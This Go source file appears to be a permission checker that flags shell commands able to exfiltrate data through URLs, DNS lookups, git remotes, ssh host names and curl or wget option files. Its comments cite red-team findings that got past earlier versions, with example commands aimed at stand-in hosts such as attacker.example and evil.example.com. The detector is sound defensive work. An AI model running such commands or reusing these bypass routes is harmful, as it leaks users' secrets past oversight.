package permit

import (
	"net"
	"net/url"
	"path"
	"regexp"
	"strings"
)

// FloorURLData is an address that can carry data off the machine.
const FloorURLData = "url-data"

// gitHosts are the hosts a git remote may name without asking.
var gitHosts = map[string]bool{"github.com": true, "gitlab.com": true, "bitbucket.org": true, "codeberg.org": true,
	"git.sr.ht": true, "go.googlesource.com": true, "salsa.debian.org": true}

var (
	// secretShape is the start of a key or token of a well-known service.
	secretShape = regexp.MustCompile(secretShapeExpr)
	hexRun      = regexp.MustCompile(`^[0-9a-fA-F]{32,}$`)
	tokenLike   = regexp.MustCompile(`^[A-Za-z0-9+/_=-]{20,}$`)
	pctAlnum    = regexp.MustCompile(`%(3[0-9]|[46][1-9a-fA-F]|[57][0-9aA])`)
)

// encodedSegment reports a path segment or host label that looks like
// data rather than a name: very long, a long hex run, a long mix of cases
// and digits (base64, a token), or letters and digits percent-encoded.
func encodedSegment(s string) (string, bool) {
	switch {
	case len(s) > 64:
		return "a segment of " + itoa(len(s)) + " characters", true
	case pctAlnum.MatchString(s):
		return "letters or digits written as %XX", true
	case hexRun.MatchString(s):
		return "a long hexadecimal string", true
	case tokenLike.MatchString(s) && mixed(s):
		return "a long token-like string", true
	}
	return "", false
}

func mixed(s string) bool {
	var up, low, dig bool
	for _, c := range s {
		switch {
		case c >= 'A' && c <= 'Z':
			up = true
		case c >= 'a' && c <= 'z':
			low = true
		case c >= '0' && c <= '9':
			dig = true
		}
	}
	return up && low || (up || low) && dig && strings.IndexAny(s, "-_") < 0
}

func itoa(n int) string {
	if n == 0 {
		return "0"
	}
	var b []byte
	for ; n > 0; n /= 10 {
		b = append([]byte{byte('0' + n%10)}, b...)
	}
	return string(b)
}

// goModuleHosts are the hosts of module paths pkg.go.dev may look up:
// code hosts and the vanity domains of well-known projects.
var goModuleHosts = setOf("github.com", "golang.org", "google.golang.org", "gopkg.in", "go.googlesource.com",
	"cloud.google.com", "gitlab.com", "bitbucket.org", "codeberg.org", "k8s.io", "sigs.k8s.io", "go.uber.org",
	"go.opentelemetry.io", "go.etcd.io", "honnef.co", "mvdan.cc", "gotest.tools", "modernc.org", "gorm.io",
	"gocloud.dev", "go.mongodb.org", "connectrpc.com", "filippo.io", "golang.zx2c4.com", "gvisor.dev", "buf.build",
	"go.temporal.io", "entgo.io", "cuelang.org", "helm.sh", "istio.io", "knative.dev", "tailscale.com", "go.step.sm")

// goModuleHost: a pkg.go.dev page for a module path on another host makes
// pkg.go.dev fetch it through the module proxy, which asks that host for
// the path: the host's owner reads what the path carries.
func goModuleHost(u *url.URL) (string, bool) {
	if strings.ToLower(u.Hostname()) != "pkg.go.dev" {
		return "", false
	}
	// Read the path as the fetcher will (dot segments removed, doubled
	// slashes and %2F folded) and past pkg.go.dev's own page prefixes:
	// /mod/evil.example.com/x, /github.com/../evil.example.com/x,
	// //evil.example.com/x and /badge/evil.example.com/x.svg named a module
	// on another host as well (red team 19a, finding 9).
	p := strings.TrimSuffix(u.Path, "/")
	if clean := path.Clean("/" + p); clean != "/"+strings.TrimPrefix(p, "/") {
		return "its path has dot segments or doubled slashes, which the fetcher folds into another page", true
	}
	rest := strings.TrimPrefix(p, "/")
	if pre, after, ok := strings.Cut(rest, "/"); ok && (pre == "mod" || pre == "badge") {
		rest = after
	}
	first, _, _ := strings.Cut(rest, "/")
	first, _, _ = strings.Cut(strings.ToLower(first), "@")
	if !strings.Contains(first, ".") || goModuleHosts[first] {
		return "", false
	}
	return "its module path is on " + first + ", which pkg.go.dev would ask for it through the module proxy", true
}

// urlData reports why a fetched address can carry data out: user and
// password, a query, a fragment with values, a scheme other than https, a
// port, an IP address, or a path segment or host label that looks like
// encoded data.
func urlData(raw string) (string, bool) {
	raw = strings.TrimSpace(raw)
	if !strings.Contains(raw, "://") {
		raw = "https://" + raw
	}
	u, err := url.Parse(raw)
	if err != nil {
		return "the address cannot be read (" + err.Error() + ")", true
	}
	switch {
	case u.User != nil:
		return "it holds a user name or password", true
	case u.Scheme != "https":
		return "it is " + u.Scheme + ", not https", true
	case u.RawQuery != "" || u.ForceQuery:
		return "it has a query string (?" + u.RawQuery + ")", true
	case strings.Contains(u.Fragment, "="):
		return "its fragment holds values (#" + u.Fragment + ")", true
	case u.Port() != "":
		return "it names port " + u.Port(), true
	case net.ParseIP(u.Hostname()) != nil:
		return "it names an IP address", true
	case secretShape.MatchString(raw):
		return "it holds what looks like a key or token (" + secretShape.FindString(raw) + "…)", true
	}
	if why, ok := goModuleHost(u); ok {
		return why, true
	}
	for _, l := range strings.Split(u.Hostname(), ".") {
		if why, ok := encodedSegment(l); ok {
			return "its host name carries " + why, true
		}
	}
	for _, seg := range strings.Split(u.EscapedPath(), "/") {
		if why, ok := encodedSegment(seg); ok {
			return "its path carries " + why, true
		}
	}
	return splitData(u)
}

// gitURLHits judges the repository addresses of git fetch, pull, clone,
// ls-remote, push, remote add/set-url and submodule add: an address on
// another host, with a user, a query or data in it, or a transport that
// runs a command (ext::) asks.
func gitURLHits(g gitInfo, cwds cwdSet, env Env) []hit {
	ops, _ := operands(g.args)
	var cands []Word
	switch g.sub {
	case "fetch", "pull", "clone", "ls-remote", "push", "archive", "send-pack", "fetch-pack", "http-push":
		if len(ops) > 0 {
			cands = ops[:1]
		}
		for _, a := range g.args {
			if v, ok := strings.CutPrefix(a.Value, "--remote="); ok {
				cands = append(cands, pathWord(v))
			}
		}
	case "remote":
		if len(ops) >= 3 && (ops[0].Value == "add" || ops[0].Value == "set-url") {
			cands = ops[2:]
		}
	case "submodule":
		if len(ops) >= 2 && ops[0].Value == "add" {
			cands = ops[1:2]
		}
	}
	var hs []hit
	for _, w := range cands {
		v := w.Value
		switch {
		case w.Dynamic:
			hs = append(hs, hit{id: FloorURLData, detail: "git " + g.sub + " " + w.Raw + ": the address is known only when it runs"})
		case strings.Contains(v, "::"):
			hs = append(hs, hit{id: FloorCodeExec, detail: "git " + g.sub + " " + v + ": a remote helper transport (ext::) runs a command"})
		case strings.HasPrefix(v, "file://") || strings.HasPrefix(v, "/") || strings.HasPrefix(v, ".") || strings.HasPrefix(v, "~"):
			hs = append(hs, localRepoHits("git "+g.sub+" "+v, v, cwds, env)...)
		case strings.Contains(v, "://"):
			u, err := url.Parse(v)
			if err != nil {
				hs = append(hs, hit{id: FloorURLData, detail: "git " + g.sub + " " + v + ": the address cannot be read"})
				continue
			}
			host := strings.ToLower(u.Hostname())
			switch {
			case u.User != nil && u.User.String() != "git":
				hs = append(hs, hit{id: FloorURLData, detail: "git " + g.sub + " " + v + ": the address holds a user name or token"})
			case u.RawQuery != "" || u.Fragment != "":
				hs = append(hs, hit{id: FloorURLData, detail: "git " + g.sub + " " + v + ": the address has a query string"})
			case !gitHosts[host]:
				hs = append(hs, hit{id: FloorURLData, detail: "git " + g.sub + " " + v + ": " + host + " is not a known git host (github.com, gitlab.com...), and the address itself can carry data"})
			case u.Scheme != "https" && u.Scheme != "ssh":
				hs = append(hs, hit{id: FloorURLData, detail: "git " + g.sub + " " + v + ": " + u.Scheme + " is neither https nor ssh"})
			default:
				for _, seg := range strings.Split(u.EscapedPath(), "/") {
					if why, ok := encodedSegment(seg); ok {
						hs = append(hs, hit{id: FloorURLData, detail: "git " + g.sub + " " + v + ": the path carries " + why})
						break
					}
				}
			}
		case strings.Contains(v, ":") && !strings.Contains(strings.SplitN(v, ":", 2)[0], "/"):
			host := strings.SplitN(v, ":", 2)[0]
			if i := strings.IndexByte(host, '@'); i >= 0 {
				host = host[i+1:]
			}
			if !gitHosts[strings.ToLower(host)] {
				hs = append(hs, hit{id: FloorURLData, detail: "git " + g.sub + " " + v + ": " + host + " is not a known git host"})
			}
		}
	}
	hs = append(hs, refspecDataHits(g, ops)...)
	return append(hs, remoteURLHits(g, cwds, env)...)
}

// refspecDataHits judges the refs named after the address of git fetch,
// pull, ls-remote and push: the server is told each one's name (protocol
// v2 sends them as ref prefixes), so a ref named with encoded data
// carries it off as a URL path would (red team 20a, finding 8).
func refspecDataHits(g gitInfo, ops []Word) []hit {
	switch g.sub {
	case "fetch", "pull", "ls-remote", "push", "fetch-pack", "send-pack":
	default:
		return nil
	}
	if len(ops) < 2 {
		return nil
	}
	for _, w := range ops[1:] {
		v := strings.TrimPrefix(w.Value, "+")
		if m := secretShape.FindString(v); m != "" {
			return []hit{{id: FloorURLData, detail: "git " + g.sub + " " + w.Value + ": the ref name holds what looks like a key or token (" + m + "…), and the server is told it"}}
		}
		for _, seg := range strings.FieldsFunc(v, func(r rune) bool { return r == ':' || r == '/' }) {
			if why, ok := encodedSegment(seg); ok {
				return []hit{{id: FloorURLData, detail: "git " + g.sub + " " + w.Value + ": the ref name carries " + why + ", and the server is told it"}}
			}
		}
	}
	return nil
}

// localRepoHits judges a repository address that is a local path or a
// file:// URL: one outside the working directory asks (its configuration
// and hooks can run programs when git reads from or pushes to it).
func localRepoHits(by, v string, cwds cwdSet, env Env) []hit {
	abs, ok := cwds.resolve(pathWord(strings.TrimPrefix(v, "file://")))
	for _, a := range abs {
		ok = ok && env.inside(a)
	}
	if ok {
		return nil
	}
	return []hit{{id: FloorCodeExec, detail: by + ": a repository outside the working directory, whose configuration can run programs"}}
}

// dnsTools resolve the names they are given: a name's labels reach the
// name's DNS server (nslookup TOKEN.attacker.example).
var dnsTools = setOf("nslookup", "dig", "host", "drill", "delv", "kdig", "ping", "ping6", "traceroute", "tracepath", "whois", "getent", "resolvectl", "mtr")

// fetchDataOpts are curl's and wget's options whose value goes to the server.
var fetchDataOpts = setOf("-d", "--data", "--data-raw", "--data-binary", "--data-urlencode", "--data-ascii", "-F", "--form",
	"--form-string", "-H", "--header", "-b", "--cookie", "-A", "--user-agent", "-e", "--referer", "-u", "--user",
	"--post-data", "--body-data", "--json", "--url-query", "--oauth2-bearer", "--proxy-header")

// fetchURLHits judges the addresses a download or DNS tool is given, as
// WebFetch's are (B6 of the eighth red team: nslookup sk-test-123.host,
// a token split over path segments or host labels), and data options
// carrying a key. Loopback addresses stay on the machine.
func fetchURLHits(v view) []hit {
	if !fetchers[v.name] && !dnsTools[v.name] {
		return nil
	}
	if hs := requestFileHits(v); hs != nil {
		return hs
	}
	for i := 0; i < len(v.args); i++ {
		a := v.args[i]
		if a.Dynamic {
			continue // fetchers' computed words: bashfloor asks
		}
		s := a.Value
		if strings.HasPrefix(s, "-") {
			n, val, eq := strings.Cut(s, "=")
			if !eq && fetchDataOpts[n] && i+1 < len(v.args) {
				i++
				val = v.args[i].Value
			} else if !eq && len(n) > 2 && n[1] != '-' && fetchDataOpts[n[:2]] {
				val = n[2:] // -HAuthorization:…
			}
			if (fetchDataOpts[n] || len(n) > 2 && fetchDataOpts[n[:2]]) && (secretShape.MatchString(val) || hasToken([]byte(val))) {
				return []hit{{id: FloorURLData, detail: v.name + " " + n + " sends what looks like a key or token"}}
			}
			continue
		}
		if !strings.Contains(s, "://") && !strings.Contains(s, ".") {
			continue
		}
		u, err := url.Parse(s)
		if !strings.Contains(s, "://") {
			u, err = url.Parse("https://" + s)
		}
		if err != nil || u.Hostname() == "" || loopback(u.Hostname()) || !strings.Contains(u.Hostname(), ".") && net.ParseIP(u.Hostname()) == nil {
			continue
		}
		if why, ok := urlData(s); ok {
			return []hit{{id: FloorURLData, detail: v.name + " " + s + ": " + why}}
		}
	}
	return nil
}

// loopback reports a host on this machine.
func loopback(h string) bool {
	if strings.EqualFold(h, "localhost") || strings.HasSuffix(strings.ToLower(h), ".localhost") {
		return true
	}
	ip := net.ParseIP(h)
	return ip != nil && ip.IsLoopback()
}

// splitData finds data spread over short path segments or host labels:
// joined, they make a key's start or a long token.
func splitData(u *url.URL) (string, bool) {
	path := strings.ReplaceAll(u.EscapedPath(), "/", "")
	if secretShape.MatchString(path) {
		return "its path segments together make what looks like a key (" + secretShape.FindString(path) + "…)", true
	}
	labels := strings.Split(u.Hostname(), ".")
	if len(labels) > 2 {
		sub := strings.Join(labels[:len(labels)-2], "")
		if secretShape.MatchString(sub) {
			return "its host labels together make what looks like a key", true
		}
		if len(sub) >= 20 && tokenLike.MatchString(sub) && mixed(sub) {
			return "its host labels together carry a long token-like string", true
		}
	}
	return "", false
}

// remoteShells name a host (user@host:path) the connection goes to.
var remoteShells = setOf("ssh", "scp", "sftp", "ssh-keyscan", "mosh", "autossh", "sshpass")

// hostDataHits: a host name (and user) reaches the host's DNS and the
// host itself: ssh sk-test-123.attacker.example, openssl s_client
// -servername, and ping -p's pattern carry data as nslookup does (the
// ninth red team).
func hostDataHits(v view) []hit {
	check := func(s string) []hit {
		host := s
		if at := strings.LastIndexByte(host, '@'); at >= 0 {
			host = host[at+1:]
		}
		if i := strings.IndexByte(host, ':'); i >= 0 {
			host = host[:i]
		}
		if secretShape.MatchString(s) {
			return []hit{{id: FloorURLData, detail: v.name + " " + s + ": it holds what looks like a key or token (" + secretShape.FindString(s) + "…)"}}
		}
		if why, ok := splitData(&url.URL{Host: host}); ok {
			return []hit{{id: FloorURLData, detail: v.name + " " + s + ": " + why}}
		}
		for _, l := range strings.Split(host, ".") {
			if why, ok := encodedSegment(l); ok {
				return []hit{{id: FloorURLData, detail: v.name + " " + s + ": its host name carries " + why}}
			}
		}
		return nil
	}
	switch {
	case remoteShells[v.name]:
		for _, a := range v.args {
			if !a.Dynamic && !strings.HasPrefix(a.Value, "-") {
				if hs := check(a.Value); hs != nil {
					return hs
				}
			}
		}
	case v.name == "openssl":
		for i, a := range v.args {
			if (a.Value == "-connect" || a.Value == "-servername" || a.Value == "-host" || a.Value == "-proxy") && i+1 < len(v.args) {
				if hs := check(v.args[i+1].Value); hs != nil {
					return hs
				}
			}
		}
	case v.name == "ping" || v.name == "ping6":
		for _, a := range v.args {
			if a.Value == "-p" || strings.HasPrefix(a.Value, "-p") && len(a.Value) > 2 {
				return []hit{{id: FloorURLData, detail: v.name + " -p sends the bytes of its pattern to the host"}}
			}
		}
	case v.name == "gpg" || v.name == "gpg2":
		for i, a := range v.args {
			val := ""
			switch {
			case a.Value == "--keyserver" && i+1 < len(v.args):
				val = v.args[i+1].Value
			case strings.HasPrefix(a.Value, "--keyserver="):
				val = strings.TrimPrefix(a.Value, "--keyserver=")
			}
			if val != "" {
				if why, ok := urlData(val); ok {
					return []hit{{id: FloorURLData, detail: "gpg --keyserver " + val + ": " + why}}
				}
			}
		}
	}
	return nil
}

// longOpt reports a long option (or the unambiguous start of one, which
// curl and wget take as it) that is one of names: at least min
// characters of it, before any =value.
func longOpt(a string, min int, names ...string) bool {
	n, _, _ := strings.Cut(a, "=")
	if !strings.HasPrefix(n, "--") || len(n) < min {
		return false
	}
	for _, name := range names {
		if strings.HasPrefix(name, n) {
			return true
		}
	}
	return false
}

// requestFileHits: curl -K FILE and wget --config FILE take their
// options — the address, the data to send, the files to upload or write
// — from a file the command line does not show; wget -i FILE fetches the
// addresses a file lists; curl -G and --url-query put the data into the
// address's query string (red team 13b, finding 5: curl -K cfg, where cfg
// said data-binary = "@.env", sent .env).
func requestFileHits(v view) []hit {
	args := shortSplit(v.name, v.args)
	get, data := false, ""
	for i, a := range args {
		s := a.Value
		if s == "--" {
			break
		}
		next := func() string {
			if _, val, ok := strings.Cut(s, "="); ok && strings.HasPrefix(s, "--") {
				return val
			}
			if len(s) > 2 && s[1] != '-' {
				return s[2:]
			}
			if i+1 < len(args) {
				return args[i+1].Raw
			}
			return ""
		}
		switch v.name {
		case "curl":
			switch {
			case s == "-K" || strings.HasPrefix(s, "-K") && len(s) > 2 || longOpt(s, 6, "--config"):
				return []hit{{id: FloorCodeExec, detail: "curl " + s + " " + next() + " reads its options from a file: the address, the data it sends and the files it uploads or writes are not on the command line"}}
			case s == "-G" || longOpt(s, 4, "--get"):
				get = true
			case longOpt(s, 6, "--url-query"):
				return []hit{{id: FloorURLData, detail: "curl --url-query " + next() + " adds its data to the address's query string"}}
			case len(s) >= 2 && s[0] == '-' && s[1] != '-' && (s[1] == 'd' || s[1] == 'F'):
				data = s
			case longOpt(s, 7, "--data", "--data-raw", "--data-binary", "--data-urlencode", "--data-ascii", "--json"):
				data = s
			}
		case "wget":
			switch {
			case s == "-i" || strings.HasPrefix(s, "-i") && len(s) > 2 || longOpt(s, 9, "--input-file"):
				return []hit{{id: FloorURLData, detail: "wget " + s + " " + next() + " fetches the addresses a file lists, which the command line does not show, and they can carry data"}}
			case longOpt(s, 6, "--config"):
				return []hit{{id: FloorCodeExec, detail: "wget " + s + " reads its settings from a file, which can name data to send (post_file) and files to write"}}
			}
		}
	}
	if get && data != "" {
		return []hit{{id: FloorURLData, detail: "curl -G " + data + ": -G puts the data into the address's query string, which carries it to the host"}}
	}
	return nil
}
